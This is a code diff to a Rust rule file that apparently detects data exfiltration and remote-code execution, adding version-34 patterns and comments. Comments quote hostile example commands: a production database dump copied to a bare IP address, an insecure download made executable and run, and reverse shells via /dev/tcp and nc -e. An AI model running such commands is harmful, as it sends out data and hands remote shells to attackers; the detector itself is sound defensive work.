@@ -46,8 +46,11 @@ macro_rules! path_start {
 pub const EGRESS: &[Rule] = &[
     Rule {
         id: "secrets-bundled",
-        what: "two credential files (SSH keys, cloud or registry credentials, an environment file) named in one line near a URL, a mail address or an upload",
+        what: "two credential files (SSH keys, cloud or registry credentials, an environment file) named in one line near a URL, a mail address or an upload; (version 34) a database dump or a backup copied to a bare IP address",
         patterns: &[
+            // Version 34: a database dump or a backup copied to a bare
+            // address (`scp /var/backups/prod.sql.gz backup@45.137.21.9:`).
+            r"\b(?:scp|rsync)\s[^\n]{0,120}?\.(?:sql|dump|bak|gz|tgz|tar|zip|env|pem|key)\b[^\n]{0,40}?\s\S+@\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}:",
             concat!(
                 path_start!(),
                 secret_file!(),
@@ -131,8 +134,15 @@ pub const EGRESS: &[Rule] = &[
     },
     Rule {
         id: "fetched-code-run",
-        what: "code downloaded and evaluated in one line, a key downloaded into authorized_keys, a repository's .git served to all, a web shell that runs what a request carries, or a program fetched over plain HTTP from a public address and run",
+        what: "code downloaded and evaluated in one line, a key downloaded into authorized_keys, a repository's .git served to all, a web shell that runs what a request carries, or a program fetched over plain HTTP from a public address and run; (version 34) a download with its certificate check off made runnable, or a shell handed to a remote address",
         patterns: &[
+            // Version 34: a download with its certificate check off made
+            // runnable in the same line (`curl -k … -o /tmp/m && chmod +x
+            // /tmp/m && /tmp/m`), and a shell handed to a remote address
+            // (`bash -i >& /dev/tcp/…`, `nc -e /bin/sh`), whatever language
+            // the note around them is in.
+            r"\b(?:curl(?:\s[^\n]{0,60}?)?\s(?:-[a-z]*k[a-z]*|--insecure)|wget\s[^\n]{0,60}?--no-check-certificate)\b[^\n]{0,200}?\bchmod\s(?:[uga]?\+x|[0-7]?7[0-7][0-7])\b",
+            r"/dev/tcp/[\w.-]+/\d+|\bnc(?:at)?\s(?:-\S+\s)*-e\s/bin/(?:ba|z)?sh\b|\bmkfifo\s\S+[^\n]{0,80}?\|\s?nc\s",
             r"https?://[^\n]{0,240}?\beval\s?\(|\beval\s?\([^\n]{0,120}?https?://|\bexec\s?\(\s?(?:urllib|requests|urlopen)[^\n]{0,80}?https?://",
             r"\b(?:curl|wget)\b[^\n]{0,200}?>>?\s?\S*authorized_keys",
             // Version 24: a repository's `.git` served to all.
